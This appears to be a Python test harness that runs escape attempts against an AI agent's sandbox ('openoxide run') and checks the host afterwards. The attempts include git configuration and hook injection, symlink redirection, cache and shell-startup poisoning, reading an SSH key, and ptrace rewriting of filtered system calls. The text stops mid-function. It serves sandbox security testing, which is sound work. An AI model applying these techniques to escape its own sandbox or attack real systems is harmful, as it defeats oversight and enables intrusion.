"""Attempts against what lets work through: private layers of git and of caches, tracing, published ports, granted sockets, hosts by name, live and staged
changes, undo, job control. Each runs under `openoxide run`, as a program that a rule allows (`Bash(*)`) and of which nothing is known, and is judged on the host:
afterwards the host's own git, shell and servers are used, and whatever the program managed to make them do shows there.

usage: granted.py OPENOXIDE BASE UID [PREFIX,... [FLAGS]]    as root in a mount namespace of its own, or as the user UID itself; FLAGS such as --live
One line of JSON for each attempt: {"id", "verdict", "host", "said"}; verdict is `escaped`, `held` or `absent` (this build lacks the feature).
`none` in place of OPENOXIDE runs them unconfined: the positive control."""
import ctypes, json, os, shutil, signal, socket, stat, subprocess, sys, threading, time

OX, BASE, UID = sys.argv[1], sys.argv[2], int(sys.argv[3])
PICK = sys.argv[4].split(",") if len(sys.argv) > 4 and sys.argv[4] else []
FLAGS = sys.argv[5:]
HOME, WS, OUT = BASE + "/home", BASE + "/home/ws", BASE + "/outside"
MARK = OUT + "/pwned"
EVIL = "touch " + MARK
ATTEMPTS = {}


def attempt(f):
    ATTEMPTS[f.__name__] = f
    return f


class Absent(Exception):
    "the feature that the attempt is about does not exist in this build"


def drop():
    os.setsid()
    os.umask(0o022)
    if os.getuid() != UID:
        os.setgroups([])
        os.setgid(UID)
        os.setuid(UID)


ENV = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": HOME, "LANG": "C.UTF-8", "USER": "ann", "TERM": "xterm", "OUT": OUT, "MARK": MARK, "EVIL": EVIL, "GIT_TERMINAL_PROMPT": "0", "HISTFILE": "/dev/null", "GIT_EDITOR": "true"}


def host(script, cwd=WS, seconds=30, **env):
    "what the person does outside; the output"
    run = subprocess.run(["bash", "-c", script], cwd=cwd, env=dict(ENV, **env), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, preexec_fn=drop, timeout=seconds)
    return run.stdout.decode(errors="replace")


# Staged changes of repositories are applied without a question in this mode only.
MODE = "bypass_permissions" if "--stage" in FLAGS else "accept_edits"


def policy(*rules, mode=MODE):
    os.makedirs(HOME + "/.config/openoxide", exist_ok=True)
    with open(HOME + "/.config/openoxide/policy.toml", "w") as f:
        f.write('mode = "%s"\npermissions.allow = %s\n' % (mode, json.dumps(["Bash(*)", *rules])))
    own(HOME + "/.config")


def own(path):
    if os.getuid() == 0:
        subprocess.run(["chown", "-hR", "%d:%d" % (UID, UID), path], check=True)


def command(argv, flags=()):
    return argv if OX == "none" else [OX, "run", "--no-input", *FLAGS, *flags, "--", *argv]


SAID = []


def write_attempt(script, python):
    with open(BASE + "/attempt", "w") as f:
        # The sandbox passes no variables that it does not know.
        f.write(("#!/usr/bin/python3\n" if python else "#!/bin/bash\nOUT='%s' EVIL='%s'\n" % (OUT, EVIL)) + script)
    os.chmod(BASE + "/attempt", 0o755)
    return [BASE + "/attempt"]


def inside(script, *flags, python=False, cwd=WS, seconds=60):
    "what the hostile program does; its own words are kept"
    argv = command(write_attempt(script, python), flags)
    env = {k: v for k, v in ENV.items() if k not in ("GIT_EDITOR",)}
    run = subprocess.Popen(argv, cwd=cwd, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, preexec_fn=drop)
    try:
        out = run.communicate(timeout=seconds)[0]
    except subprocess.TimeoutExpired:
        os.killpg(run.pid, signal.SIGKILL)
        out = run.communicate()[0] + b"TIMEOUT"
    text = out.decode(errors="replace")
    SAID.append(text)
    if "unknown key" in text or "unexpected argument '--" in text or "is not a known tool" in text or "unknown tool" in text or "nothing was run" in text:
        raise Absent(text[:300])
    return text


def start(script, *flags, python=False, cwd=WS):
    "the same, in the background"
    return subprocess.Popen(command(write_attempt(script, python), flags), cwd=cwd, env=ENV, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, preexec_fn=drop)


def finish(run, seconds=20):
    try:
        text = run.communicate(timeout=seconds)[0].decode(errors="replace")
    except subprocess.TimeoutExpired:
        os.killpg(run.pid, signal.SIGKILL)
        text = run.communicate()[0].decode(errors="replace") + "TIMEOUT"
    SAID.append(text)
    if "unknown key" in text or "unexpected argument" in text or "unknown tool" in text:
        raise Absent(text[:300])
    return text


def build():
    for _ in range(30):
        try:
            for d in (HOME, OUT):
                if os.path.lexists(d):
                    subprocess.run(["rm", "-rf", d], check=True)
            break
        except subprocess.CalledProcessError:
            time.sleep(.1)
    for d in (WS, OUT + "/other", HOME + "/.ssh", HOME + "/.cargo/bin", HOME + "/.cache", HOME + "/.local/state"):
        os.makedirs(d)
    for path, text in ((OUT + "/file", "orig\n"), (HOME + "/.bashrc", "# mine\n"), (HOME + "/.ssh/id_rsa", "SSHKEYSECRET\n"), (HOME + "/.cargo/bin/tool", "#!/bin/sh\necho mine\n"), (HOME + "/.cache/blob", "mine\n"),
                       (HOME + "/.gitconfig", "[user]\nname = Ann\nemail = a@example.org\n[init]\ndefaultBranch = main\n[protocol \"ext\"]\nallow = user\n[protocol \"file\"]\nallow = always\n")):
        with open(path, "w") as f:
            f.write(text)
    os.chmod(HOME + "/.cargo/bin/tool", 0o755)
    os.chmod(HOME + "/.ssh", 0o700)
    policy()
    own(HOME)
    own(OUT)
    host("""
        git init -q; echo a > a; echo '*.x filter=x diff=x merge=x' > .gitattributes; echo x > f.x; mkdir tools docs; printf '#!/bin/sh\\ncat\\n' > tools/clean; chmod +x tools/clean; git add -A; git commit -qm first
        git init -q --bare $OUT/origin.git; git remote add origin $OUT/origin.git; git push -q origin main; git branch -q other; git -C $OUT/other init -q; git -C $OUT/other commit -q --allow-empty -m o""")


def state(path):
    try:
        s = os.lstat(path)
    except OSError:
        return None
    what = open(path, "rb").read() if stat.S_ISREG(s.st_mode) else os.readlink(path) if stat.S_ISLNK(s.st_mode) else b""
    return [s.st_mode, s.st_uid, s.st_ino if not stat.S_ISREG(s.st_mode) else 0, what if isinstance(what, str) else what.decode(errors="replace")]


# What the host's own git writes in the repositories there, and what openoxide keeps.
UNWATCHED = (HOME + "/ws", HOME + "/.local/state/openoxide", OUT + "/origin.git", HOME + "/.config/openoxide")


def tree():
    found = {}
    for top in (OUT, HOME):
        for at, ds, fs in os.walk(top):
            ds[:] = [d for d in ds if not (at + "/" + d).startswith(UNWATCHED)]
            for n in ds + fs:
                if not (at + "/" + n).startswith(UNWATCHED):
                    found[at + "/" + n] = state(at + "/" + n)
    return found


HOST_USE = """
echo changed >> f.x; git diff; git diff --ext-diff; git log -p -1; git show HEAD:f.x --textconv; git cat-file --textconv HEAD:f.x; git commit -qam changed; git checkout -q -b side HEAD~1; echo aside >> f.x; git commit -qam aside; git merge -q --no-edit main; git merge --abort
git checkout -qf main; git status; (unset GIT_EDITOR; export VISUAL=true; timeout 3 git commit --allow-empty --amend; timeout 3 git rebase -i HEAD~1); git -p log -1; git commit -q --allow-empty --trailer x=y -m t; git submodule update --init; git add -A; git commit -q --allow-empty -m host; git diff HEAD~1 --stat; git log -p -1 --ext-diff; git fetch -q origin; git fetch -q --all; git pull -q --no-rebase origin main; git push -q origin HEAD:refs/heads/pushed
git checkout -q other; git merge -q --no-edit main; git checkout -q -; git stash -q; git stash pop -q; git st; git submodule update --init -q; git commit -q --allow-empty --amend --no-edit; git rebase --continue; git gc -q; git worktree list
printf 'protocol=https\\nhost=git.example.org\\n\\n' | timeout 5 git credential fill; git -C docs status; git describe --always; git commit --allow-empty -q -m again; git switch -q -c fresh; git tag -f t; git reflog -2; git blame a
for d in */ .*/; do git -C "$d" status; done
"""


def judged(name):
    "runs one attempt; what changed on the host"
    build()
    SAID.clear()
    before = tree()
    faults = []
    try:
        faults += ATTEMPTS[name]() or []
        if name.startswith(("g_", "g2_")):
            host(HOST_USE, seconds=120)
    except Absent as why:
        return dict(id=name, verdict="absent", host=[], said=str(why))
    except subprocess.TimeoutExpired:
        faults.append("the host's command hangs")
    after = tree()
    faults += [k for k in sorted(set(before) | set(after)) if before.get(k) != after.get(k) and not k.endswith(".gitconfig.lock")]
    if any("SSHKEYSECRET" in text for text in SAID):
        faults.append("secret id_rsa")
    return dict(id=name, verdict="escaped" if faults else "held", host=faults, said=("".join(SAID))[-4000:])


# ---- git: what its private layers must not let through ---------------------------------------------------------------------------------------------------

def config(name, text, where=".git/config"):
    "one spelling of configuration that runs something, appended by hand"
    def f():
        inside("cat >> %s <<'X'\n%s\nX\nmkdir -p .evil; printf '#!/bin/sh\\n%s\\n' > .evil/pre-commit; cp .evil/pre-commit .evil/post-checkout; chmod +x .evil/*; cp .evil/pre-commit tools/clean" % (where, text, EVIL))
    f.__name__ = "g_config_" + name
    attempt(f)


config("fsmonitor", "[core]\n\tfsmonitor = %s" % EVIL)
config("case", "[CoRe]\n\tFsMonitor = %s" % EVIL)
config("continuation", "[core]\n\tfsmonitor = \"touch \\\n%s\"" % MARK)
config("same_line", "[core] fsmonitor = %s" % EVIL)
config("comment_then", "[core] ; harmless\n\tbare = false # x\n[core]fsmonitor=%s" % EVIL)
config("crlf", "[core]\r\n\tfsmonitor = %s\r" % EVIL)
config("escapes", "[core]\n\tfsmonitor = \"to\"\"uch\\t%s\"" % MARK)
config("include", "[include]\n\tpath = ../.evil-config\n[core]\n\tlogallrefupdates = true\nX\ncat > .evil-config <<'X'\n[core]\n\tfsmonitor = %s" % EVIL)
config("include_if", "[includeIf \"onbranch:**\"]\n\tpath = ../.evil-config\nX\ncat > .evil-config <<'X'\n[core]\n\tfsmonitor = %s" % EVIL)
config("hooks_path", "[core]\n\thooksPath = .evil")
config("alias", "[alias]\n\tst = !%s" % EVIL)
config("filter", "[filter \"x\"]\n\tclean = %s; cat\n\tsmudge = %s; cat" % (EVIL, EVIL))
config("filter_old_program", "[filter \"x\"]\n\tclean = ./tools/clean\n\tprocess = ./tools/clean")
config("textconv", "[diff \"x\"]\n\ttextconv = %s; cat\n\tcommand = %s" % (EVIL, EVIL))
config("merge_driver", "[merge \"x\"]\n\tdriver = %s\n[merge]\n\tdefault = x" % EVIL)
config("editor", "[core]\n\teditor = %s\n\tpager = %s\n\taskPass = %s\n[sequence]\n\teditor = %s" % ((EVIL,) * 4))
config("credential", "[credential]\n\thelper = !%s" % EVIL)
config("gpg", "[gpg]\n\tprogram = .evil/pre-commit\n[commit]\n\tgpgSign = true\n[tag]\n\tgpgSign = true")
config("ext_url", "[remote \"evil\"]\n\turl = ext::sh -c %s%% >&2\n\tfetch = +refs/heads/*:refs/remotes/evil/*" % EVIL.replace(" ", "% "))
config("ext_push_url", "[remote \"origin\"]\n\tpushurl = \"ext::sh -c touch%% %s\"" % MARK)
config("instead_of", "[url \"ext::sh -c touch%% %s \"]\n\tinsteadOf = %s" % (MARK, OUT))
config("upload_pack", "[remote \"origin\"]\n\tuploadpack = %s; git-upload-pack\n\treceivepack = %s; git-receive-pack" % (EVIL, EVIL))
config("remote_vcs", "[remote \"origin\"]\n\tvcs = ../../../../..%s/.evil/x" % WS)
config("ssh_command", "[core]\n\tsshCommand = %s\n[remote \"ssh\"]\n\turl = ssh://nowhere.invalid/x\n\tfetch = +refs/heads/*:refs/remotes/ssh/*" % EVIL)
config("git_proxy", "[core]\n\tgitProxy = .evil/pre-commit\n[remote \"g\"]\n\turl = git://nowhere.invalid/x\n\tfetch = +refs/heads/*:refs/remotes/g/*")
config("submodule_update", "[submodule \"s\"]\n\turl = %s/other\n\tupdate = !%s\n\tactive = true\nX\ncat > .gitmodules <<'X'\n[submodule \"s\"]\n\tpath = s\n\turl = %s/other" % (OUT, EVIL, OUT))
config("worktree", "[core]\n\tworktree = %s\n\tbare = false" % OUT)
config("worktree_config", "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\nX\ncat > .git/config.worktree <<'X'\n[core]\n\tfsmonitor = %s" % EVIL)
config("object_ref_command", "[core]\n\talternateRefsCommand = %s\n[uploadpack]\n\tpackObjectsHook = %s\nX\necho %s/other/.git/objects > .git/objects/info/alternates; cat >/dev/null <<'X'" % (EVIL, EVIL, OUT))
config("trailer", "[trailer \"x\"]\n\tcommand = %s\n\tcmd = %s\n\tifmissing = add\n[interactive]\n\tdiffFilter = %s\n[browser \"x\"]\n\tcmd = %s" % (EVIL, EVIL, EVIL, EVIL))


@attempt
def g_config_by_git():
    inside("git config core.fsmonitor \"$EVIL\" || git config --add core.fsmonitor \"$EVIL\"; git config --file .git/config alias.st \"!$EVIL\"")


@attempt
def g_config_nul_and_bom():
    inside("import os; t = open('.git/config', 'rb').read()\nopen('.git/config', 'wb').write(b'\\xef\\xbb\\xbf' + t + b'\\n[core]\\n\\tfsmonitor = %s\\0\\n')" % EVIL, python=True)


@attempt
def g_config_replaced_by_link():
    inside("printf '[core]\\nfsmonitor = %s\\n' > evil-config; rm -f .git/config; ln -sf ../evil-config .git/config; mv -f evil-config .git/config 2>/dev/null; ln evil-config .git/config; cp evil-config .git/config.lock; mv .git/config.lock .git/config" % EVIL)


@attempt
def g_config_left_locked():
    "a background process writes until the very end"
    inside("(while :; do printf '[core]\\nfsmonitor = %s\\n' >> .git/config; done) & sleep 1" % EVIL)


@attempt
def g_git_moved_away():
    inside("mv .git old; mkdir -p .git; cp -r old/. .git/; printf '[core]\\nfsmonitor = %s\\n' >> .git/config; cp -r .git made; rm -rf .git; mv made .git" % EVIL)


@attempt
def g_gitfile_in_place():
    inside("cp -r .git docs/store; printf '[core]\\nfsmonitor = %s\\n' >> docs/store/config; rm -rf .git; mv .git gone; echo 'gitdir: docs/store' > .git" % EVIL)


@attempt
def g_commondir():
    inside("cp -r .git docs/store; printf '[core]\\nfsmonitor = %s\\n' >> docs/store/config; echo ../docs/store > .git/commondir" % EVIL)


@attempt
def g_hooks_of_every_kind():
    inside("for h in pre-commit post-commit post-checkout pre-push post-merge post-rewrite reference-transaction post-index-change pre-auto-gc commit-msg prepare-commit-msg fsmonitor-watchman pre-merge-commit; do printf '#!/bin/sh\\n%s\\n' > .git/hooks/$h; chmod +x .git/hooks/$h; done" % EVIL)


@attempt
def g_hook_links():
    inside("printf '#!/bin/sh\\n%s\\n' > tools/h; chmod +x tools/h; ln -s ../../tools/h .git/hooks/pre-commit; ln tools/h .git/hooks/post-commit; mkdir docs/hooks; cp tools/h docs/hooks/post-checkout; mv .git/hooks .git/h2; ln -s ../docs/hooks .git/hooks" % EVIL)


@attempt
def g_hook_activated_later():
    "a hook that was there and could not run becomes executable"
    host("printf '#!/bin/sh\\n%s\\n' > .git/hooks/pre-commit; chmod -x .git/hooks/pre-commit" % EVIL)
    inside("chmod +x .git/hooks/pre-commit; mv .git/hooks/pre-commit .git/hooks/post-commit; chmod +x .git/hooks/post-commit")


@attempt
def g_rebase_todo():
    inside("git checkout -q other; mkdir -p .git/rebase-merge; for f in head-name:refs/heads/other onto:$(git rev-parse HEAD) orig-head:$(git rev-parse HEAD) interactive: end:1 msgnum:1 done:; do echo ${f#*:} > .git/rebase-merge/${f%%:*}; done; echo \"exec $EVIL\" > .git/rebase-merge/git-rebase-todo; cp .git/rebase-merge/git-rebase-todo .git/rebase-merge/git-rebase-todo.backup")


@attempt
def g_modules_config():
    inside("git -c protocol.file.allow=always submodule add -q %s/other s; git commit -qm s; printf '[core]\\nfsmonitor = %s\\n' >> .git/modules/s/config; mkdir -p .git/modules/s/hooks; printf '#!/bin/sh\\n%s\\n' > .git/modules/s/hooks/post-checkout; chmod +x .git/modules/s/hooks/post-checkout" % (OUT, EVIL, EVIL))


@attempt
def g_nested_and_bare():
    inside("git init -q n; printf '[core]\\nfsmonitor = %s\\n' >> n/.git/config; mkdir -p docs/objects docs/refs; echo 'ref: refs/heads/m' > docs/HEAD; printf '[core]\\nfsmonitor = %s\\nbare = false\\nworktree = ..\\n' > docs/config" % (EVIL, EVIL))


@attempt
def g_new_worktree_points_out():
    inside("git worktree add -q trees/w -b w; echo 'gitdir: %s/other/.git' > trees/w/.git; echo %s/other/.git > .git/worktrees/w/commondir; cp -r .git/worktrees/w docs/w; printf '[core]\\nfsmonitor = %s\\n' > docs/w/config" % (OUT, OUT, EVIL))
    host("git -C trees/w status; git -C trees/w add -A; git -C trees/w commit -qm x")


def link(name, path, target, before="", text="x"):
    "a symbolic link in the repository that the host's git would write through"
    def f():
        inside("%s\nrm -rf .git/%s; ln -s %s .git/%s; printf '%s\\n' > .git/MERGE_MSG" % (before, path, target, path, EVIL))
        host("git commit --allow-empty --no-edit; git commit --allow-empty -F .git/MERGE_MSG; git commit --allow-empty -m x")
    f.__name__ = "g_link_" + name
    attempt(f)


link("edit_message", "COMMIT_EDITMSG", HOME + "/.bashrc")
link("head_log", "logs/HEAD", HOME + "/.bashrc")
link("logs", "logs", OUT + "/file-logs", "mkdir -p .git/logs")
link("fetch_head", "FETCH_HEAD", OUT + "/file")
link("orig_head", "ORIG_HEAD", OUT + "/file")
link("index", "index", OUT + "/index")
link("packed_refs", "packed-refs", OUT + "/refs-made")
link("objects", "objects", OUT + "/other", "cp -r .git/objects docs/o")
link("refs", "refs/heads/deep", OUT + "/other")
link("info", "info", HOME + "/.cache")


@attempt
def g_link_objects_host_writes():
    inside("cp -rL .git/objects .git/o2; mv .git/objects .git/o3; ln -s %s .git/objects; ls .git/objects/" % (OUT + "/empty-made"))


@attempt
def g_forged_git_file():
    "the project says that it is a worktree of another repository, which knows nothing of it"
    host("mkdir ../forged; echo 'gitdir: %s/other/.git' > ../forged/.git" % OUT)
    inside("git commit -q --allow-empty -m x; echo evil > %s/other/.git/description; printf '[core]\\nfsmonitor = %s\\n' >> %s/other/.git/config; touch %s/other/.git/created" % (OUT, EVIL, OUT, OUT), cwd=HOME + "/forged")
    host("rm -rf ../forged")


@attempt
def g_forged_worktree_directory():
    "a git directory that the program can write names another repository as its own"
    host("mkdir ../forged; cd ../forged; mkdir -p w; echo 'gitdir: %s/forged/w' > .git; echo %s/other/.git > w/commondir; echo %s/forged/.git > w/gitdir; echo 'ref: refs/heads/main' > w/HEAD" % (HOME, OUT, HOME))
    inside("git commit -q --allow-empty -m x; touch %s/other/.git/created; printf '[core]\\nfsmonitor = %s\\n' >> %s/other/.git/config" % (OUT, EVIL, OUT), cwd=HOME + "/forged")
    host("rm -rf ../forged")


def linked():
    host("git worktree add -q ../linked -b linked")
    return HOME + "/linked"


@attempt
def g_linked_worktree_main():
    "from a linked worktree: files of the main checkout, its configuration, hooks and other worktrees"
    at = linked()
    inside("echo evil > %s/a; printf '[core]\\nfsmonitor = %s\\n' >> %s/.git/config; printf '#!/bin/sh\\n%s\\n' > %s/.git/hooks/pre-commit; chmod +x %s/.git/hooks/pre-commit; echo evil >> %s/.git/worktrees/linked/commondir; echo %s/other/.git > %s/.git/worktrees/linked/gitdir" % (WS, EVIL, WS, EVIL, WS, WS, WS, OUT, WS), cwd=at)
    evil = [WS + "/a"] if open(WS + "/a").read() != "a\n" else []
    host("git status; git add -A; git commit -qm x", cwd=at)
    host("rm -rf %s" % at)
    return evil


@attempt
def g_linked_worktree_config():
    at = linked()
    inside("git config extensions.worktreeConfig true; git config --worktree core.fsmonitor '%s'; printf '[core]\\nfsmonitor = %s\\n' > $(git rev-parse --git-dir)/config.worktree; printf '[core]\\nhooksPath = %s/docs\\n' >> $(git rev-parse --git-common-dir)/config" % (EVIL, EVIL, at), cwd=at)
    host("git status; git add -A; git commit -qm x", cwd=at)
    host("rm -rf %s" % at)


@attempt
def g_window_while_it_runs():
    "the host's prompt runs git while the program changes its configuration"
    run = start("for i in $(seq 60); do git config core.fsmonitor '%s'; printf '[core]\\nfsmonitor = %s\\n' >> .git/config; printf '#!/bin/sh\\n%s\\n' > .git/hooks/post-index-change; chmod +x .git/hooks/post-index-change; sleep .05; done" % (EVIL, EVIL, EVIL))
    end = time.time() + 4
    while time.time() < end and run.poll() is None:
        host("git status; git add -A")
    finish(run)


@attempt
def g_killed_supervisor():
    "what a program left in its layers is not applied when the supervisor dies"
    run = start("git config core.fsmonitor '%s'; printf '[core]\\nfsmonitor = %s\\n' >> .git/config; printf '#!/bin/sh\\n%s\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; sleep 30" % (EVIL, EVIL, EVIL))
    time.sleep(1.5)
    run.kill()
    finish(run)
    time.sleep(.7)


# ---- caches: private layers -------------------------------------------------------------------------------------------------------------------------------

@attempt
def c_poison():
    inside("for d in .cache .cargo/registry .cargo/bin .npm .local/bin .local/share .config go/pkg go/bin .gradle .m2 .config/git .config/fish .config/autostart .config/systemd/user; do mkdir -p ~/$d; echo evil > ~/$d/evil; done; echo evil > ~/.cache/blob; rm -f ~/.cargo/bin/tool; printf '[core]\\nfsmonitor = %s\\n' > ~/.config/git/config" % EVIL)
    host("git status")


@attempt
def c_programs_do_not_stay():
    "a later run finds nothing of this one on its path"
    inside("mkdir -p ~/.cargo/bin ~/.local/bin ~/go/bin ~/.npm-global/bin ~/.bun/bin ~/.deno/bin ~/.dotnet/tools ~/.config/composer/vendor/bin; for d in .cargo/bin .local/bin go/bin .npm-global/bin .bun/bin .deno/bin .dotnet/tools .config/composer/vendor/bin; do printf '#!/bin/sh\\necho PLANTED\\n' > ~/$d/tool2; chmod +x ~/$d/tool2; done; printf '#!/bin/sh\\necho PLANTED\\n' > ~/.cargo/bin/tool")
    text = inside("for d in .cargo/bin .local/bin go/bin .bun/bin .deno/bin; do ~/$d/tool2; done; ~/.cargo/bin/tool")
    return ["a planted program ran later"] if "PLANTED" in text and OX != "none" else []


@attempt
def c_configuration_does_not_stay():
    inside("mkdir -p ~/.config/git ~/.config/pip; printf '[alias]\\nst = !echo PLANTED\\n' > ~/.config/git/config; printf '[user]\\nname = PLANTED\\n' >> ~/.gitconfig; echo 'echo PLANTED' >> ~/.bashrc")
    text = inside("git st; git config user.name; cat ~/.bashrc ~/.config/git/config")
    return ["planted configuration stayed"] if "PLANTED" in text and OX != "none" else []


@attempt
def c_link_to_secret():
    inside("mkdir -p ~/.cache/x ~/.npm; ln -s ~/.ssh ~/.cache/x/keys; ln -s ../.ssh ~/.npm/keys; ln ~/.ssh/id_rsa ~/.cache/x/hard")
    inside("cat ~/.cache/x/keys/id_rsa ~/.npm/keys/id_rsa ~/.cache/x/hard 2>&1")
    text = host("cat ~/.cache/x/keys/id_rsa ~/.npm/keys/id_rsa ~/.cache/x/hard 2>&1")
    return ["a link is on the host"] if "SSHKEY" in text else []


@attempt
def c_set_id_and_devices_in_layer():
    "nothing in the layer on disk runs as its owner"
    inside("mkdir -p ~/.cache/x ~/.npm ~/.cargo/registry; for d in .cache/x .npm .cargo/registry; do cp /usr/bin/id ~/$d/suid; chmod 4755 ~/$d/suid; chmod 2755 ~/$d/suid; mknod ~/$d/dev c 1 3; mknod ~/$d/disk b 254 0; mkfifo ~/$d/fifo; done")
    bad = []
    for at, ds, fs in os.walk(HOME):
        for n in fs:
            s = os.lstat(at + "/" + n)
            if s.st_mode & 0o6000 or stat.S_ISBLK(s.st_mode) or stat.S_ISCHR(s.st_mode) and s.st_rdev:
                bad.append(at + "/" + n)
    return bad


@attempt
def c_layer_by_name():
    "OpenOxide's own directory, and the layers of other projects, cannot be reached from inside"
    policy()
    host("mkdir ../second; cd ../second; git init -q")
    inside("mkdir -p ~/.cache/p; echo SECONDPLANT > ~/.cache/p/x", cwd=HOME + "/second")
    text = inside("find ~/.local/state/openoxide -type f 2>/dev/null | head; cat ~/.cache/p/x; find / -xdev -name p -path '*cache*' 2>/dev/null | head -3; grep -o 'upperdir=[^,]*' /proc/self/mountinfo | head -3; for u in $(grep -o 'upperdir=[^,]*' /proc/self/mountinfo | cut -d= -f2); do ls $u && echo evil > $u/evil && echo REACHED; done; touch ~/.local/state/openoxide/evil && echo REACHED")
    host("rm -rf ../second")
    return ["another project's layer"] if "SECONDPLANT" in text and OX != "none" else ["the layer was reached"] if "REACHED" in text and OX != "none" else []


@attempt
def c_state_in_every_mode():
    "OpenOxide's own state contains the key that authenticates approvals: no mode reveals it"
    policy(mode="bypass_permissions")
    inside("true")
    text = inside("d=openox; find ~/.local/state/${d}ide -type f -exec head -c 20 {} +", cwd=WS)
    return ["the state was read"] if "==>" in text and OX != "none" else []


@attempt
def c_layer_renamed_parent():
    inside("mv ~/.cache ~/.c2; mv ~/.cargo ~/.c3; rmdir ~/.cache; ln -s ~/.ssh ~/.cache; rm -rf ~/.cargo/bin; mv ~/.ssh ~/.s2; cat ~/.cache/id_rsa ~/.s2/id_rsa")


@attempt
def c_home_start_files():
    "missing start files of shells and tools are not made"
    inside("for f in .profile .bash_profile .zshrc .zshenv .netrc .npmrc .pypirc .curlrc .wgetrc .vimrc .inputrc .tmux.conf .gdbinit .pythonrc .mavenrc .condarc .Rprofile .irbrc .psqlrc .lldbinit .gitignore_global .config/starship.toml .ssh/authorized_keys .ssh/config; do echo evil >> ~/$f; done")


# ---- tracing ------------------------------------------------------------------------------------------------------------------------------------------------

TRACE = '''
import ctypes, os, struct, sys, errno, signal, time
libc = ctypes.CDLL(None, use_errno=True)
OUT, MARK = os.environ.get("OUT", %(out)r), %(mark)r
def sc(nr, *a):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    if r < 0: e = ctypes.get_errno(); raise OSError(e, os.strerror(e))
    return r
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs".split()]
def ptrace(req, pid, addr=0, data=0): return sc(101, req, pid, addr, data)
def put(p, s=b"EVIL"):
    fd = os.open(p, os.O_WRONLY | os.O_CREAT, 0o644); os.write(fd, s); os.close(fd)
def child(f):
    pid = os.fork()
    if pid == 0:
        try: ptrace(0, 0); os.kill(os.getpid(), signal.SIGSTOP); f()
        finally: os._exit(0)
    os.waitpid(pid, 0); return pid
def rewritten(nr, args, call=39):
    "the child calls getpid; the tracer makes it another call at the stop before it"
    def f():
        for _ in range(3): sc(call)
        time.sleep(.05)
    pid = child(f); r = Regs(); entry = True; got = []
    for _ in range(4000):
        ptrace(24, pid); _, s = os.waitpid(pid, 0)
        if os.WIFEXITED(s) or os.WIFSIGNALED(s): break
        ptrace(12, pid, 0, ctypes.byref(r))
        if entry and r.orig_rax == call:
            r.orig_rax = r.rax = nr
            for n, v in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), args): setattr(r, n, v)
            ptrace(13, pid, 0, ctypes.byref(r)); got.append("armed")
        elif not entry and got and got[-1] == "armed": got[-1] = ctypes.c_longlong(r.rax).value
        entry = not entry
    return got
''' % {"out": OUT, "mark": MARK}


def traced(body):
    text = inside(TRACE + "\ntry:\n" + "\n".join("    " + l for l in body.strip().splitlines()) + "\nexcept OSError as e: print('refused', e)\n", python=True)
    if OX != "none" and "refused" in text and "Operation not permitted" in text and "rewritten" in body and "armed" not in text and "[" not in text:
        raise Absent("own children cannot be traced")
    return text


@attempt
def t_first_process():
    text = traced("""
for what in (lambda: ptrace(16, 1), lambda: ptrace(0x4206, 1), lambda: ptrace(16, os.getppid()), lambda: os.open('/proc/1/mem', os.O_RDWR), lambda: sc(438, sc(434, 1, 0), 0, 0), lambda: sc(438, sc(434, 1, 0), 3, 0),
             lambda: sc(311, 1, 0, 0, 0, 0, 0) or sc(310, 1, 0, 0, 0, 0, 0), lambda: os.listdir('/proc/1/fd') and os.open('/proc/1/fd/3', os.O_RDWR), lambda: open('/proc/1/environ').read(1), lambda: open('/proc/1/maps').read(1), lambda: os.readlink('/proc/1/exe') and os.open('/proc/1/root/etc/shadow', os.O_WRONLY)):
    try: r = what(); print('GOT', r) if r not in (0, '') else None
    except OSError: pass
""")
    return ["the first process"] if "GOT" in text and OX != "none" else []


@attempt
def t_rewritten_call():
    "what the filter refuses stays refused when a tracer puts it in place of another call"
    text = traced("""
import ctypes
path = ctypes.create_string_buffer(OUT.encode() + b"/created"); key = ctypes.create_string_buffer(b"user")
for nr, args in ((250, (1, 0)), (321, (0, 0, 0)), (425, (1, 0)), (272, (0x10000000,)), (165, (0, 0, 0, 0, 0)), (428, (-100 & 2**64-1, 0, 0)), (246, (0, 0, 0, 0)), (298, (0, 0, 0, 0, 0)), (323, (0,)), (169, (0, 0, 0, 0)), (304, (0, 0, 0))):
    got = rewritten(nr, args)
    # EPERM, EACCES and ENOSYS are those of the filter
    print(nr, got, 'REACHED' if any(isinstance(g, int) and g not in (-1, -13, -38, os.getpid()) and g < 1 for g in got) else '')
rewritten(2, (ctypes.addressof(path), 0o101, 0o644))
""")
    return ["a refused call"] if "REACHED" in text and OX != "none" else []


@attempt
def t_rewritten_to_terminal_input():
    "TIOCSTI and descriptors of others through a rewritten call"
    text = traced("""
print(rewritten(16, (0, 0x5412, 0)), rewritten(438, (0, 0, 0)), rewritten(41, (40, 1, 0)), rewritten(41, (17, 3, 0)))
""")
    bad = [r for line in text.splitlines() if line.startswith("[") for r in line.split("] [")[2:] if r.strip("[] ").split(",")[0].strip().isdigit() and int(r.strip("[] ").split(",")[0]) < 100]
    return ["a socket family"] if bad and OX != "none" else []


@attempt
def t_swapped_connect():
    "the address of a held connect(2) is exchanged by another thread or a tracer"
    heard = listen_unix(OUT + "/srv.sock")
    inside("""
import ctypes, os, socket, struct, threading, time
OUT = %r
s0 = socket.socket(socket.AF_UNIX); s0.bind("in.sock"); s0.listen(64)
libc = ctypes.CDLL(None, use_errno=True)
good = struct.pack("H", 1) + os.path.abspath("in.sock").encode(); evil = struct.pack("H", 1) + (OUT + "/srv.sock").encode()
n = max(len(good), len(evil)) + 1; good, evil = good.ljust(n, b"\\0"), evil.ljust(n, b"\\0")
b = ctypes.create_string_buffer(good, n); stop = False
def flip():
    while not stop: ctypes.memmove(b, evil, n); ctypes.memmove(b, good, n)
t = threading.Thread(target=flip); t.start(); end = time.time() + 4; k = 0
